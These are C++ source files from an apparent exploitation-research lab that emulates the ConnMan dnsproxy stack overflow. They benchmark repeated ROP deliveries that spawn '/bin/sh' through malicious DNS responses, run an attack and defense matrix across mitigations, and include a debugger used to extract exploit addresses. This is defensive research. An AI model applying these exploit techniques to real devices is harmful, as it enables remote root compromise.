#include "src/connman/dnsproxy.hpp"
#include "src/dns/craft.hpp"
#include "src/exploit/generator.hpp"
#include "src/exploit/profile.hpp"
#include "src/exploit/rop_x86.hpp"
#include "src/isa/assembler.hpp"
#include "src/loader/boot.hpp"
#include "src/loader/snapshot.hpp"

using namespace connlab;
using Clock = std::chrono::steady_clock;

namespace {

double Seconds(Clock::time_point since) {
  return std::chrono::duration<double>(Clock::now() - since).count();
}

/// Restores the process-wide predecode default on scope exit, so a failed
/// measurement can't leak legacy mode into the google-benchmark phase.
struct PredecodeMode {
  explicit PredecodeMode(bool enabled) { vm::Cpu::set_predecode_default(enabled); }
  ~PredecodeMode() { vm::Cpu::set_predecode_default(true); }
};

/// Same scope-exit restore for the superblock tier. The legacy/fast columns
/// below measure the plain interpreter (tier off) so the superblock columns
/// have an honest baseline; fresh boots outside this bench keep the tier on.
struct SuperblockMode {
  explicit SuperblockMode(bool enabled) {
    vm::Cpu::set_superblocks_default(enabled);
  }
  ~SuperblockMode() { vm::Cpu::set_superblocks_default(true); }
};

/// Same again for block linking. The superblock column measures the bare
/// tier (self-loops only, the PR that introduced it) so the linked column
/// shows what chaining and host-fn continuation add on top.
struct BlockLinkMode {
  explicit BlockLinkMode(bool enabled) {
    vm::Cpu::set_block_links_default(enabled);
  }
  ~BlockLinkMode() { vm::Cpu::set_block_links_default(true); }
};

struct Throughput {
  double steps_per_sec = 0;
  double items_per_sec = 0;  // deliveries (ROP) or loop runs
  std::uint64_t steps = 0;
};

/// The attacker's labels for the full x86 ROP chain, built once from a lab
/// boot (seed 100) exactly as bench_rop_x86 does.
dns::LabelSeq RopLabels() {
  auto lab =
      loader::Boot(isa::Arch::kVX86, loader::ProtectionConfig::WxAslr(), 100)
          .value();
  connman::DnsProxy lab_proxy(*lab, connman::Version::k134);
  exploit::ProfileExtractor extractor(*lab, lab_proxy);
  auto profile = extractor.Extract().value();
  auto image = exploit::BuildRopX86(profile, "/bin/sh").value();
  return dns::CutIntoLabels(image).value();
}

/// Repeated end-to-end ROP deliveries against one victim (the proxy resumes
/// cleanly after each hijack, so deliveries chain on a single boot).
Throughput MeasureRopReplay(bool predecode, bool superblocks, bool links,
                            const dns::LabelSeq& labels, double budget_secs) {
  PredecodeMode mode(predecode);
  SuperblockMode sb_mode(superblocks);
  BlockLinkMode link_mode(links);
  auto sys =
      loader::Boot(isa::Arch::kVX86, loader::ProtectionConfig::WxAslr(), 4242)
          .value();
  connman::DnsProxy proxy(*sys, connman::Version::k134);
  Throughput tp;
  const std::uint64_t steps0 = sys->cpu->steps_executed();
  std::uint16_t id = 1;
  int reps = 0;
  const auto t0 = Clock::now();
  double secs = 0;
  do {
    dns::Message query = dns::Message::Query(id++, "victim.example");
    (void)proxy.AcceptClientQuery(dns::Encode(query).value());
    dns::Message evil = dns::MaliciousAResponse(query, labels);
    benchmark::DoNotOptimize(proxy.HandleServerResponse(dns::Encode(evil).value()));
    ++reps;
    secs = Seconds(t0);
  } while (secs < budget_secs);
  tp.steps = sys->cpu->steps_executed() - steps0;
  tp.steps_per_sec = static_cast<double>(tp.steps) / secs;
  tp.items_per_sec = reps / secs;
  return tp;
}

/// A straight-line countdown loop in .scratch: the densest all-interpreter
/// workload (no host functions, no DNS framing).
Throughput MeasureTightLoop(bool predecode, bool superblocks, bool links,
                            double budget_secs) {
  PredecodeMode mode(predecode);
  SuperblockMode sb_mode(superblocks);
  BlockLinkMode link_mode(links);
  auto sys =
      loader::Boot(isa::Arch::kVX86, loader::ProtectionConfig::None(), 7)
          .value();
  const mem::GuestAddr scratch = sys->Sym("scratch.start").value();
  isa::Assembler as(isa::Arch::kVX86, scratch);
  isa::vx86::EncMovImm(as.w(), isa::kEAX, 100000000);
  as.Label("loop");
  isa::vx86::EncSubImm(as.w(), isa::kEAX, 1);
  isa::vx86::EncCmpImm(as.w(), isa::kEAX, 0);
  as.JnzLabel("loop");
  isa::vx86::EncHlt(as.w());
  const util::Bytes code = as.Finish().value();
  (void)sys->space.DebugWrite(scratch, code);
  (void)sys->space.Protect(".scratch", mem::kPermRX);

  Throughput tp;
  const auto t0 = Clock::now();
  double secs = 0;
  int runs = 0;
  do {
    sys->cpu->set_pc(scratch);
    const vm::StopInfo stop = sys->cpu->Run(20000000);
    tp.steps += stop.steps;
    ++runs;
    secs = Seconds(t0);
  } while (secs < budget_secs);
  tp.steps_per_sec = static_cast<double>(tp.steps) / secs;
  tp.items_per_sec = runs / secs;
  return tp;
}

struct RebootCost {
  double boot_us = 0;
  double restore_full_us = 0;
  double restore_dirty_us = 0;
};

RebootCost MeasureRebootCost() {
  RebootCost cost;
  constexpr int kBoots = 200;
  const auto t0 = Clock::now();
  for (int i = 0; i < kBoots; ++i) {
    auto sys =
        loader::Boot(isa::Arch::kVX86, loader::ProtectionConfig::None(), 1)
            .value();
    benchmark::DoNotOptimize(sys);
  }
  cost.boot_us = Seconds(t0) / kBoots * 1e6;

  // Full vs dirty-only restore on a lightly-dirtied image: each iteration
  // scribbles ~300 bytes of stack (two 256-byte pages) — the footprint of a
  // typical benign fuzz execution — before rewinding.
  auto sys =
      loader::Boot(isa::Arch::kVX86, loader::ProtectionConfig::None(), 1)
          .value();
  const loader::Snapshot snap = loader::TakeSnapshot(*sys);
  const mem::GuestAddr stack = sys->layout.stack_base();
  const util::Bytes scribble(300, 0xAA);
  constexpr int kRestores = 2000;

  const auto t1 = Clock::now();
  for (int i = 0; i < kRestores; ++i) {
    (void)sys->space.DebugWrite(stack, scribble);
    (void)loader::RestoreSnapshot(*sys, snap, loader::RestoreMode::kFull);
  }
  cost.restore_full_us = Seconds(t1) / kRestores * 1e6;

  const auto t2 = Clock::now();
  for (int i = 0; i < kRestores; ++i) {
    (void)sys->space.DebugWrite(stack, scribble);
    (void)loader::RestoreSnapshot(*sys, snap, loader::RestoreMode::kDirtyOnly);
  }
  cost.restore_dirty_us = Seconds(t2) / kRestores * 1e6;
  return cost;
}

// Globals so the google-benchmark fixtures reuse the table's setup.
dns::LabelSeq g_labels;  // NOLINT

void BM_RopDelivery(benchmark::State& state) {
  auto sys =
      loader::Boot(isa::Arch::kVX86, loader::ProtectionConfig::WxAslr(), 4242)
          .value();
  connman::DnsProxy proxy(*sys, connman::Version::k134);
  std::uint16_t id = 1;
  for (auto _ : state) {
    dns::Message query = dns::Message::Query(id++, "victim.example");
    (void)proxy.AcceptClientQuery(dns::Encode(query).value());
    dns::Message evil = dns::MaliciousAResponse(query, g_labels);
    benchmark::DoNotOptimize(
        proxy.HandleServerResponse(dns::Encode(evil).value()));
  }
}
BENCHMARK(BM_RopDelivery)->Unit(benchmark::kMicrosecond);

void BM_Boot(benchmark::State& state) {
  for (auto _ : state) {
    auto sys =
        loader::Boot(isa::Arch::kVX86, loader::ProtectionConfig::None(), 1)
            .value();
    benchmark::DoNotOptimize(sys);
  }
}
BENCHMARK(BM_Boot)->Unit(benchmark::kMicrosecond);

void BM_SnapshotTake(benchmark::State& state) {
  auto sys =
      loader::Boot(isa::Arch::kVX86, loader::ProtectionConfig::None(), 1)
          .value();
  for (auto _ : state) {
    benchmark::DoNotOptimize(loader::TakeSnapshot(*sys));
  }
}
BENCHMARK(BM_SnapshotTake)->Unit(benchmark::kMicrosecond);

void BM_SnapshotRestore(benchmark::State& state) {
  auto sys =
      loader::Boot(isa::Arch::kVX86, loader::ProtectionConfig::None(), 1)
          .value();
  const loader::Snapshot snap = loader::TakeSnapshot(*sys);
  for (auto _ : state) {
    benchmark::DoNotOptimize(
        loader::RestoreSnapshot(*sys, snap, loader::RestoreMode::kFull));
  }
}
BENCHMARK(BM_SnapshotRestore)->Unit(benchmark::kMicrosecond);

void BM_SnapshotRestoreDirty(benchmark::State& state) {
  auto sys =
      loader::Boot(isa::Arch::kVX86, loader::ProtectionConfig::None(), 1)
          .value();
  const loader::Snapshot snap = loader::TakeSnapshot(*sys);
  const mem::GuestAddr stack = sys->layout.stack_base();
  const util::Bytes scribble(300, 0xAA);
  for (auto _ : state) {
    (void)sys->space.DebugWrite(stack, scribble);
    benchmark::DoNotOptimize(
        loader::RestoreSnapshot(*sys, snap, loader::RestoreMode::kDirtyOnly));
  }
}
BENCHMARK(BM_SnapshotRestoreDirty)->Unit(benchmark::kMicrosecond);

}  // namespace

int main(int argc, char** argv) {
  const std::string json_path =
      benchout::TakeJsonFlag(argc, argv, "BENCH_vm.json");
  // Short budgets when only the JSON artifact is wanted keep the CI smoke
  // step fast; the interactive table gets steadier numbers.
  const double budget = json_path.empty() ? 3.0 : 1.5;

  std::printf(
      "== E13/E20: VM hot path — interp / predecode / superblock / linked "
      "==\n\n");
  g_labels = RopLabels();

  const Throughput rop_legacy =
      MeasureRopReplay(false, false, false, g_labels, budget);
  const Throughput rop_fast =
      MeasureRopReplay(true, false, false, g_labels, budget);
  const Throughput rop_sb = MeasureRopReplay(true, true, false, g_labels, budget);
  const Throughput rop_linked =
      MeasureRopReplay(true, true, true, g_labels, budget);
  const Throughput loop_legacy = MeasureTightLoop(false, false, false, budget);
  const Throughput loop_fast = MeasureTightLoop(true, false, false, budget);
  const Throughput loop_sb = MeasureTightLoop(true, true, false, budget);
  const Throughput loop_linked = MeasureTightLoop(true, true, true, budget);
  const RebootCost reboot = MeasureRebootCost();

  const double rop_speedup = rop_fast.steps_per_sec / rop_legacy.steps_per_sec;
  const double loop_speedup =
      loop_fast.steps_per_sec / loop_legacy.steps_per_sec;
  const double sb_speedup = loop_sb.steps_per_sec / loop_fast.steps_per_sec;
  const double link_speedup = rop_linked.steps_per_sec / rop_fast.steps_per_sec;

  std::printf("%-18s %13s %13s %13s %13s %9s\n", "workload", "legacy st/s",
              "fast st/s", "superblk st/s", "linked st/s", "link spd");
  std::printf("%s\n", std::string(86, '-').c_str());
  std::printf("%-18s %13.0f %13.0f %13.0f %13.0f %8.2fx\n", "rop replay (x86)",
              rop_legacy.steps_per_sec, rop_fast.steps_per_sec,
              rop_sb.steps_per_sec, rop_linked.steps_per_sec, link_speedup);
  std::printf("%-18s %13.0f %13.0f %13.0f %13.0f %8.2fx\n", "tight loop (x86)",
              loop_legacy.steps_per_sec, loop_fast.steps_per_sec,
              loop_sb.steps_per_sec, loop_linked.steps_per_sec,
              loop_linked.steps_per_sec / loop_fast.steps_per_sec);
  std::printf("  (legacy→fast speedups: rop %.2fx, loop %.2fx; "
              "loop superblock spd %.2fx)\n",
              rop_speedup, loop_speedup, sb_speedup);
  std::printf("\nreboot: full Boot %.1f us, full restore %.1f us, "
              "dirty-only restore %.1f us\n"
              "        (restore %.1fx cheaper than Boot; dirty-only %.1fx "
              "cheaper than full,\n         lightly-dirtied image)\n\n",
              reboot.boot_us, reboot.restore_full_us, reboot.restore_dirty_us,
              reboot.boot_us / reboot.restore_dirty_us,
              reboot.restore_full_us / reboot.restore_dirty_us);

  if (!json_path.empty()) {
    benchout::JsonWriter json;
    json.String("bench", "vm_step");
    json.Number("rop_steps_per_sec_legacy", rop_legacy.steps_per_sec);
    json.Number("rop_steps_per_sec", rop_fast.steps_per_sec);
    json.Number("rop_steps_per_sec_superblock", rop_sb.steps_per_sec);
    json.Number("rop_steps_per_sec_linked", rop_linked.steps_per_sec);
    json.Number("rop_speedup", rop_speedup);
    json.Number("rop_deliveries_per_sec", rop_fast.items_per_sec);
    json.Number("loop_steps_per_sec_legacy", loop_legacy.steps_per_sec);
    json.Number("loop_steps_per_sec", loop_fast.steps_per_sec);
    json.Number("loop_steps_per_sec_superblock", loop_sb.steps_per_sec);
    json.Number("loop_speedup", loop_speedup);
    json.Number("superblock_speedup", sb_speedup);
    json.Number("link_speedup", link_speedup);
    json.Number("boot_us", reboot.boot_us);
    // restore_us stays the headline key (the mode campaigns actually run,
    // now dirty-only); restore_full_us keeps the old wholesale copy visible.
    json.Number("restore_us", reboot.restore_dirty_us);
    json.Number("restore_full_us", reboot.restore_full_us);
    json.Number("dirty_restore_speedup",
                reboot.restore_full_us / reboot.restore_dirty_us);
    json.Number("reboot_speedup", reboot.boot_us / reboot.restore_dirty_us);
    json.WriteFile(json_path);
    return 0;  // CI smoke mode: skip the microbenchmark phase
  }

  benchmark::Initialize(&argc, argv);
  benchmark::RunSpecifiedBenchmarks();
  return 0;
}
