// E3 — the Listing-1 path: get_name expansion behaviour and cost.
// Table: expansion outcome around the 1024-byte boundary, per version.
// Timing: expansion throughput (bytes/second through the vulnerable copy).
#include <benchmark/benchmark.h>

#include <cstdio>

#include "src/connman/dnsproxy.hpp"
#include "src/dns/craft.hpp"
#include "src/loader/boot.hpp"

using namespace connlab;

namespace {

void PrintThresholdTable() {
  std::printf("== E3: get_name expansion at the buffer boundary (VARM) ==\n");
  std::printf("%10s  %-18s %-18s\n", "expansion", "1.34 (vulnerable)",
              "1.35 (patched)");
  std::printf("%s\n", std::string(50, '-').c_str());
  for (std::size_t size : {256u, 512u, 1000u, 1022u, 1040u, 1100u, 2048u, 4096u}) {
    std::string row[2];
    int i = 0;
    for (connman::Version version :
         {connman::Version::k134, connman::Version::k135}) {
      auto sys =
          loader::Boot(isa::Arch::kVARM, loader::ProtectionConfig::None(), 1)
              .value();
      connman::DnsProxy proxy(*sys, version);
      dns::Message query = dns::Message::Query(0x42, "t.example");
      (void)proxy.AcceptClientQuery(dns::Encode(query).value());
      auto labels = dns::JunkLabels(size);
      auto evil = dns::MaliciousAResponse(query, labels.value());
      auto outcome = proxy.HandleServerResponse(dns::Encode(evil).value());
      row[i++] = std::string(connman::OutcomeKindName(outcome.kind));
    }
    std::printf("%10zu  %-18s %-18s\n", size, row[0].c_str(), row[1].c_str());
  }
  std::printf("\nExpected shape: identical until 1022; past it 1.35 rejects\n"
              "while 1.34 first silently corrupts the frame (parsed-ok /\n"
              "crash depending on what it hits) and finally segfaults.\n\n");
}

void BM_GetNameExpansion(benchmark::State& state) {
  const auto arch = static_cast<isa::Arch>(state.range(0));
  const auto size = static_cast<std::size_t>(state.range(1));
  auto sys = loader::Boot(arch, loader::ProtectionConfig::None(), 1).value();
  connman::DnsProxy proxy(*sys, connman::Version::k135);  // bounded: no crash
  auto labels = dns::JunkLabels(size).value();
  std::uint16_t id = 1;
  for (auto _ : state) {
    dns::Message query = dns::Message::Query(id++, "t.example");
    (void)proxy.AcceptClientQuery(dns::Encode(query).value());
    auto evil = dns::MaliciousAResponse(query, labels);
    auto outcome = proxy.HandleServerResponse(dns::Encode(evil).value());
    benchmark::DoNotOptimize(outcome);
  }
  state.SetBytesProcessed(static_cast<std::int64_t>(state.iterations()) *
                          static_cast<std::int64_t>(size));
}
BENCHMARK(BM_GetNameExpansion)->ArgsProduct({{0, 1}, {256, 512, 1000}});

void BM_CompressedNameExpansion(benchmark::State& state) {
  // A response using a compression pointer back into the question: the
  // get_name walk takes the pointer hop every time.
  auto sys =
      loader::Boot(isa::Arch::kVX86, loader::ProtectionConfig::None(), 1).value();
  connman::DnsProxy proxy(*sys, connman::Version::k134);
  std::uint16_t id = 1;
  for (auto _ : state) {
    dns::Message query = dns::Message::Query(id++, "c.example.net");
    (void)proxy.AcceptClientQuery(dns::Encode(query).value());
    util::ByteWriter w;
    w.WriteU16BE(query.header.id);
    w.WriteU16BE(0x8180);
    w.WriteU16BE(1);
    w.WriteU16BE(1);
    w.WriteU16BE(0);
    w.WriteU16BE(0);
    (void)dns::EncodeName(w, "c.example.net");
    w.WriteU16BE(1);
    w.WriteU16BE(1);
    w.WriteU8(0xC0);
    w.WriteU8(12);
    w.WriteU16BE(1);
    w.WriteU16BE(1);
    w.WriteU32BE(60);
    w.WriteU16BE(4);
    w.WriteBytes(util::Bytes{9, 9, 9, 9});
    auto outcome = proxy.HandleServerResponse(w.bytes());
    benchmark::DoNotOptimize(outcome);
  }
  state.SetItemsProcessed(state.iterations());
}
BENCHMARK(BM_CompressedNameExpansion);

}  // namespace

int main(int argc, char** argv) {
  PrintThresholdTable();
  benchmark::Initialize(&argc, argv);
  benchmark::RunSpecifiedBenchmarks();
  benchmark::Shutdown();
  return 0;
}
