// E10a — infrastructure: DNS wire codec throughput (encode/decode of
// benign messages, compression-pointer decoding, malicious-response
// encoding at exploit sizes).
#include <benchmark/benchmark.h>

#include "src/dns/craft.hpp"
#include "src/dns/message.hpp"

using namespace connlab;

namespace {

void BM_EncodeQuery(benchmark::State& state) {
  dns::Message query = dns::Message::Query(0x1234, "device.vendor.example.com");
  for (auto _ : state) {
    auto wire = dns::Encode(query);
    benchmark::DoNotOptimize(wire);
  }
  state.SetItemsProcessed(state.iterations());
}
BENCHMARK(BM_EncodeQuery);

void BM_EncodeResponseWithAnswers(benchmark::State& state) {
  dns::Message query = dns::Message::Query(0x1234, "device.vendor.example.com");
  dns::Message response = dns::Message::ResponseFor(query);
  for (int i = 0; i < state.range(0); ++i) {
    response.answers.push_back(
        dns::MakeA("device.vendor.example.com", "10.0.0.1", 300));
  }
  for (auto _ : state) {
    auto wire = dns::Encode(response);
    benchmark::DoNotOptimize(wire);
  }
  state.SetItemsProcessed(state.iterations());
}
BENCHMARK(BM_EncodeResponseWithAnswers)->Arg(1)->Arg(4)->Arg(16);

void BM_DecodeResponse(benchmark::State& state) {
  dns::Message query = dns::Message::Query(0x1234, "device.vendor.example.com");
  dns::Message response = dns::Message::ResponseFor(query);
  for (int i = 0; i < 4; ++i) {
    response.answers.push_back(
        dns::MakeA("device.vendor.example.com", "10.0.0.1", 300));
  }
  const util::Bytes wire = dns::Encode(response).value();
  for (auto _ : state) {
    auto decoded = dns::Decode(wire);
    benchmark::DoNotOptimize(decoded);
  }
  state.SetBytesProcessed(static_cast<std::int64_t>(state.iterations()) *
                          static_cast<std::int64_t>(wire.size()));
}
BENCHMARK(BM_DecodeResponse);

void BM_DecodeCompressedName(benchmark::State& state) {
  util::ByteWriter w;
  (void)dns::EncodeName(w, "a.long.example.name.with.labels");
  const std::size_t second = w.size();
  w.WriteU8(3);
  w.WriteString("www");
  w.WriteU8(0xC0);
  w.WriteU8(0x00);
  const util::Bytes wire = w.bytes();
  for (auto _ : state) {
    auto name = dns::DecodeName(wire, second);
    benchmark::DoNotOptimize(name);
  }
  state.SetItemsProcessed(state.iterations());
}
BENCHMARK(BM_DecodeCompressedName);

void BM_EncodeMaliciousResponse(benchmark::State& state) {
  dns::Message query = dns::Message::Query(0x1234, "victim.example");
  auto labels = dns::JunkLabels(static_cast<std::size_t>(state.range(0))).value();
  for (auto _ : state) {
    auto evil = dns::MaliciousAResponse(query, labels);
    auto wire = dns::Encode(evil);
    benchmark::DoNotOptimize(wire);
  }
  state.SetBytesProcessed(static_cast<std::int64_t>(state.iterations()) *
                          state.range(0));
}
BENCHMARK(BM_EncodeMaliciousResponse)->Arg(1200)->Arg(4096);

}  // namespace

BENCHMARK_MAIN();
