// A gdb-flavoured debugger over a booted System: memory examination,
// disassembly, symbols, registers, breakpoints.
//
// This is the tool role from the paper's §III ("using gdb, we are able to
// isolate the sections of memory occupied by the stack of the
// parse_response function"): the exploit-profile extractor drives these
// primitives against a *local* copy of the target, then reuses the learned
// addresses against the remote one — which works because the image is not
// PIE and the exploited regions are not randomised.
#pragma once

#include <string>

#include "src/loader/boot.hpp"
#include "src/util/bytes.hpp"
#include "src/util/status.hpp"

namespace connlab::dbg {

class Debugger {
 public:
  explicit Debugger(loader::System& sys) : sys_(&sys) {}

  // --- Memory (ptrace-style: ignores guest permissions) -------------------
  util::Result<util::Bytes> ReadMem(mem::GuestAddr addr, std::uint32_t len) const;
  util::Result<std::uint32_t> ReadWord(mem::GuestAddr addr) const;
  util::Status WriteMem(mem::GuestAddr addr, util::ByteSpan data);

  /// `x/…x addr` — hexdump of guest memory.
  util::Result<std::string> Examine(mem::GuestAddr addr, std::uint32_t len) const;
  /// `disas addr` — disassembly listing.
  util::Result<std::string> Disassemble(mem::GuestAddr addr, std::uint32_t len) const;

  // --- Symbols --------------------------------------------------------------
  util::Result<mem::GuestAddr> SymbolAddr(const std::string& name) const;
  /// "connman.parse_response+0x12"-style description of an address.
  std::string Describe(mem::GuestAddr addr) const;

  // --- Process state ----------------------------------------------------------
  std::string Registers() const;
  std::string Maps() const;

  // --- Breakpoints --------------------------------------------------------------
  util::Status BreakAt(const std::string& symbol);
  void BreakAtAddr(mem::GuestAddr addr);
  void RemoveBreakpoint(mem::GuestAddr addr);
  /// Resumes a breakpoint-stopped CPU for up to `max_steps`.
  vm::StopInfo Continue(std::uint64_t max_steps);

  [[nodiscard]] loader::System& system() noexcept { return *sys_; }

 private:
  loader::System* sys_;
};

}  // namespace connlab::dbg
