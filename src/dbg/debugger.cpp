#include "src/dbg/debugger.hpp"

#include "src/isa/disasm.hpp"
#include "src/util/hexdump.hpp"

namespace connlab::dbg {

util::Result<util::Bytes> Debugger::ReadMem(mem::GuestAddr addr,
                                            std::uint32_t len) const {
  return sys_->space.DebugRead(addr, len);
}

util::Result<std::uint32_t> Debugger::ReadWord(mem::GuestAddr addr) const {
  CONNLAB_ASSIGN_OR_RETURN(util::Bytes raw, sys_->space.DebugRead(addr, 4));
  return static_cast<std::uint32_t>(raw[0]) |
         (static_cast<std::uint32_t>(raw[1]) << 8) |
         (static_cast<std::uint32_t>(raw[2]) << 16) |
         (static_cast<std::uint32_t>(raw[3]) << 24);
}

util::Status Debugger::WriteMem(mem::GuestAddr addr, util::ByteSpan data) {
  return sys_->space.DebugWrite(addr, data);
}

util::Result<std::string> Debugger::Examine(mem::GuestAddr addr,
                                            std::uint32_t len) const {
  CONNLAB_ASSIGN_OR_RETURN(util::Bytes data, ReadMem(addr, len));
  return util::HexDump(data, addr);
}

util::Result<std::string> Debugger::Disassemble(mem::GuestAddr addr,
                                                std::uint32_t len) const {
  CONNLAB_ASSIGN_OR_RETURN(util::Bytes data, ReadMem(addr, len));
  return isa::DisassembleToString(sys_->arch, data, addr);
}

util::Result<mem::GuestAddr> Debugger::SymbolAddr(const std::string& name) const {
  return sys_->symbols.Lookup(name);
}

std::string Debugger::Describe(mem::GuestAddr addr) const {
  return sys_->symbols.Describe(addr);
}

std::string Debugger::Registers() const { return sys_->cpu->RegistersString(); }

std::string Debugger::Maps() const { return sys_->space.MapsString(); }

util::Status Debugger::BreakAt(const std::string& symbol) {
  CONNLAB_ASSIGN_OR_RETURN(mem::GuestAddr addr, SymbolAddr(symbol));
  sys_->cpu->AddBreakpoint(addr);
  return util::OkStatus();
}

void Debugger::BreakAtAddr(mem::GuestAddr addr) {
  sys_->cpu->AddBreakpoint(addr);
}

void Debugger::RemoveBreakpoint(mem::GuestAddr addr) {
  sys_->cpu->RemoveBreakpoint(addr);
}

vm::StopInfo Debugger::Continue(std::uint64_t max_steps) {
  sys_->cpu->ClearStop();
  return sys_->cpu->Run(max_steps);
}

}  // namespace connlab::dbg
