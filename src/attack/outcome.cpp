#include "src/attack/outcome.hpp"

namespace connlab::attack {

std::string AttackResult::RowLabel() const {
  std::string out(isa::ArchName(arch));
  out += " / " + prot.ToString();
  if (service == "dnsproxy") {
    out += " / connman " + std::string(connman::VersionName(version));
  } else {
    out += " / " + service;
  }
  return out;
}

std::string AttackResult::OutcomeLabel() const {
  if (shell) return "ROOT SHELL";
  if (crash) return "crash (DoS)";
  if (!exploit_available) return "no exploit (" + detail + ")";
  return std::string(connman::OutcomeKindName(kind));
}

std::string AttackResult::FailureLabel() const {
  return std::string(exploit::FailureCauseName(failure));
}

}  // namespace connlab::attack
