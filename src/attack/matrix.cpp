#include "src/attack/matrix.hpp"

#include "src/adapt/retarget.hpp"
#include "src/obs/obs.hpp"

namespace connlab::attack {

namespace {

/// Grid-cell bookkeeping shared by the matrix drivers: every completed cell
/// counts once; "blocked" means the generator produced a payload but the
/// victim survived with no shell and no crash (the mitigation ate it).
void CountGridCell(const AttackResult& result) {
  OBS_COUNT("attack.grid_cells");
  if (result.shell) {
    OBS_COUNT("attack.grid_shells");
  } else if (result.exploit_available && !result.crash) {
    OBS_COUNT("attack.grid_blocked");
  }
}

}  // namespace

namespace {

const loader::ProtectionConfig kLevels[] = {
    loader::ProtectionConfig::None(),
    loader::ProtectionConfig::WxOnly(),
    loader::ProtectionConfig::WxAslr(),
};

}  // namespace

util::Result<std::vector<AttackResult>> RunSixAttackMatrix(
    std::uint64_t target_seed) {
  std::vector<AttackResult> results;
  for (isa::Arch arch : {isa::Arch::kVX86, isa::Arch::kVARM}) {
    for (const loader::ProtectionConfig& prot : kLevels) {
      ScenarioConfig config;
      config.arch = arch;
      config.prot = prot;
      config.target_seed = target_seed;
      CONNLAB_ASSIGN_OR_RETURN(AttackResult result,
                               RunControlledScenario(config));
      CountGridCell(result);
      results.push_back(std::move(result));
    }
  }
  return results;
}

util::Result<std::vector<AttackResult>> RunCrossTechniqueMatrix(
    isa::Arch arch, std::uint64_t target_seed) {
  std::vector<AttackResult> results;
  const exploit::Technique techniques[] = {
      exploit::Technique::kCodeInjection,
      arch == isa::Arch::kVX86 ? exploit::Technique::kRet2Libc
                               : exploit::Technique::kArmGadgetExeclp,
      exploit::Technique::kRopMemcpyChain,
  };
  for (exploit::Technique technique : techniques) {
    for (const loader::ProtectionConfig& prot : kLevels) {
      ScenarioConfig config;
      config.arch = arch;
      config.prot = prot;
      config.technique = technique;
      config.target_seed = target_seed;
      CONNLAB_ASSIGN_OR_RETURN(AttackResult result,
                               RunControlledScenario(config));
      results.push_back(std::move(result));
    }
  }
  return results;
}

util::Result<std::vector<AttackResult>> RunDefenseMatrix(
    std::uint64_t target_seed) {
  std::vector<AttackResult> results;
  for (isa::Arch arch : {isa::Arch::kVX86, isa::Arch::kVARM}) {
    // Patched 1.35 at the weakest level: even there, nothing lands.
    {
      ScenarioConfig config;
      config.arch = arch;
      config.prot = loader::ProtectionConfig::None();
      config.version = connman::Version::k135;
      config.target_seed = target_seed;
      CONNLAB_ASSIGN_OR_RETURN(AttackResult result,
                               RunControlledScenario(config));
      results.push_back(std::move(result));
    }
    // Stack canary on top of W^X+ASLR: the defense the paper compiled out.
    {
      ScenarioConfig config;
      config.arch = arch;
      config.prot = loader::ProtectionConfig::All();
      config.target_seed = target_seed;
      CONNLAB_ASSIGN_OR_RETURN(AttackResult result,
                               RunControlledScenario(config));
      results.push_back(std::move(result));
    }
  }
  return results;
}

namespace {

/// Bridges a zoo-service outcome into the ProxyOutcome vocabulary the
/// report tables speak.
connman::ProxyOutcome::Kind BridgeKind(adapt::ServiceOutcome::Kind kind) {
  using In = adapt::ServiceOutcome::Kind;
  using Out = connman::ProxyOutcome::Kind;
  switch (kind) {
    case In::kOk: return Out::kParsedOk;
    case In::kRejected: return Out::kDroppedInvalid;
    case In::kCrash: return Out::kCrash;
    case In::kShell: return Out::kShell;
    case In::kExec: return Out::kExec;
    case In::kAbort: return Out::kAbort;
    case In::kOther: return Out::kOther;
  }
  return Out::kOther;
}

/// One bug-class-zoo grid cell: fires the service's native exploit at a
/// victim hardened with `policy` (over a no-protection base, so each
/// mitigation's contribution is isolated).
util::Result<AttackResult> RunZooCell(const std::string& service,
                                      isa::Arch arch,
                                      const defense::DefensePolicy& policy,
                                      std::uint64_t target_seed) {
  loader::ProtectionConfig prot = loader::ProtectionConfig::None();
  policy.Configure(prot);

  CONNLAB_ASSIGN_OR_RETURN(
      adapt::AdaptResult zoo,
      service == "resolvd" ? adapt::AttackResolvd(arch, prot, target_seed)
                           : adapt::AttackCamstored(arch, prot, target_seed));
  AttackResult result;
  result.service = service;
  result.arch = arch;
  result.prot = loader::ProtectionConfig::None();
  result.technique = zoo.technique;
  result.exploit_available = true;
  result.shell = zoo.shell;
  result.crash = zoo.kind == adapt::ServiceOutcome::Kind::kCrash;
  result.kind = BridgeKind(zoo.kind);
  result.detail = zoo.detail;
  result.defense = policy.Label();
  result.payload_bytes = zoo.payload_bytes;
  result.failure = adapt::DiagnoseZooFailure(zoo.technique, prot, zoo.kind);
  return result;
}

}  // namespace

util::Result<std::vector<AttackResult>> RunDefenseGrid(
    std::uint64_t target_seed) {
  OBS_TRACE_SPAN(grid_span, "attack", "RunDefenseGrid");
  // The standard sweep plus the heap-integrity policy: the stack attacks
  // show it blocks nothing of theirs, the zoo shows what it does block.
  std::vector<defense::DefensePolicy> policies = defense::StandardPolicies();
  policies.push_back(defense::DefensePolicy::HeapIntegrityChecks());
  std::vector<AttackResult> results;
  results.reserve(10 * policies.size());
  for (isa::Arch arch : {isa::Arch::kVX86, isa::Arch::kVARM}) {
    for (const loader::ProtectionConfig& prot : kLevels) {
      for (const defense::DefensePolicy& policy : policies) {
        ScenarioConfig config;
        config.arch = arch;
        config.prot = prot;
        config.target_seed = target_seed;
        config.defense = policy;
        OBS_TRACE_SPAN(cell_span, "attack", "GridCell");
        cell_span.Arg("arch", std::string(isa::ArchName(arch)));
        cell_span.Arg("defense", policy.Label());
        CONNLAB_ASSIGN_OR_RETURN(AttackResult result,
                                 RunControlledScenario(config));
        cell_span.Arg("outcome", result.OutcomeLabel());
        CountGridCell(result);
        results.push_back(std::move(result));
      }
    }
  }
  // The bug-class zoo: one row per (arch, service) per policy, covering
  // the two classes the stack-smash rows cannot represent.
  for (isa::Arch arch : {isa::Arch::kVX86, isa::Arch::kVARM}) {
    for (const char* service : {"resolvd", "camstored"}) {
      for (const defense::DefensePolicy& policy : policies) {
        OBS_TRACE_SPAN(cell_span, "attack", "GridCell");
        cell_span.Arg("arch", std::string(isa::ArchName(arch)));
        cell_span.Arg("service", std::string(service));
        cell_span.Arg("defense", policy.Label());
        CONNLAB_ASSIGN_OR_RETURN(
            AttackResult result,
            RunZooCell(service, arch, policy, target_seed));
        cell_span.Arg("outcome", result.OutcomeLabel());
        CountGridCell(result);
        results.push_back(std::move(result));
      }
    }
  }
  grid_span.Arg("cells", static_cast<std::uint64_t>(results.size()));
  return results;
}

}  // namespace connlab::attack
